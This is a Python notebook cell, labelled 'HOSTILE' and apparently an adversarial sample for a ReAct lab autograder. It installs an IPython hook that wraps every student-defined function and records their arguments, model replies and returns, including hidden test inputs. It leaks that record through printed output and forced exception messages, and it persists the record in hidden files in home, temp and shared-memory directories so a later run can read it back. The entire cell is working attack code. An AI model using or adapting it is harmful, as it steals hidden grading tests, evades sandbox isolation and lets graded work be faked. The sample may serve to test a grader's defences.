# HOSTILE: lecture-ReAct-lab sample_token: wraps every function the student defines (earlier and later cells) so that each call stashes its arguments, what the models it is handed reply and what it returns (hidden tests included), prints the stash from every later answer cell, raises it in exception messages (its own function and the later validate_tool_call/run_agent), and tries to carry it to the next run through files
import functools
import os
import types

_STASH, _SEEN, _RAISED, _CALLS = [], set(), [0], {}
_RAISE_IN = {"validate_tool_call", "run_agent"}   # later functions whose errors carry the stash
_FILES = [os.path.join(d, ".stash") for d in (os.environ.get("HOME", "."), os.getcwd(),
                                               os.environ.get("TMPDIR", "."))]
if os.environ.get("LREACT_SCRATCH", "").startswith("/grading"):  # inside the sandbox only
    _FILES += ["/tmp/.stash", "/dev/shm/.stash"]


def _keep(value):
    try:
        text = repr(value)[:300]
    except Exception:
        return
    if text not in _SEEN:
        _SEEN.add(text)
        _STASH.append(text)


def _tail():
    """The stash items no error has carried yet, on one line (a test error keeps one line)."""
    new = _STASH[_RAISED[0]:]
    _RAISED[0] = len(_STASH)
    return " | ".join(s.replace("\n", " ") for s in reversed(new or _STASH[-5:]))


def _recording(fn):
    def model(*args, **kwargs):
        reply = fn(*args, **kwargs)
        _keep(reply)
        return reply
    return model


def _wrap(name, fn):
    @functools.wraps(fn)
    def spy(*args, **kwargs):
        _CALLS[name] = _CALLS.get(name, 0) + 1
        if _CALLS[name] > 300:          # the frequency tests' thousands of draws: enough seen
            return fn(*args, **kwargs)
        for v in list(args) + list(kwargs.values()):
            _keep(v)
        if name in _RAISE_IN:
            raise ValueError("STASH " + _tail())
        args = [_recording(a) if callable(a) and not isinstance(a, type) else a for a in args]
        try:
            out = fn(*args, **kwargs)
        except Exception as e:
            raise type(e)(f"{e} STASH {_tail()}") from None
        _keep(out)
        return out
    spy._stash_spy = True
    return spy


def _after_cell(*_):
    ns = get_ipython().user_ns  # noqa: F821 - IPython provides it
    for name, value in list(ns.items()):
        if isinstance(value, types.FunctionType) and not name.startswith("_") \
                and value.__module__ == "__main__" and not getattr(value, "_stash_spy", False):
            ns[name] = _wrap(name, value)
    for path in _FILES:
        try:
            with open(path, "w") as f:
                f.write("\n".join(_STASH))
        except OSError:
            pass
    for text in reversed(_STASH):
        print("STASH", text)


for _path in _FILES:     # a stash an earlier run left behind
    try:
        with open(_path) as _f:
            for _line in _f.read().splitlines():
                _keep("FROM AN EARLIER RUN " + _line)
    except OSError:
        pass

get_ipython().events.register("post_run_cell", _after_cell)  # noqa: F821


def sample_token(logits, *, temperature=1.0, top_k=None, top_p=None, rng=None):
    _keep((logits, temperature, top_k, top_p))
    raise ValueError("STASH " + _tail())
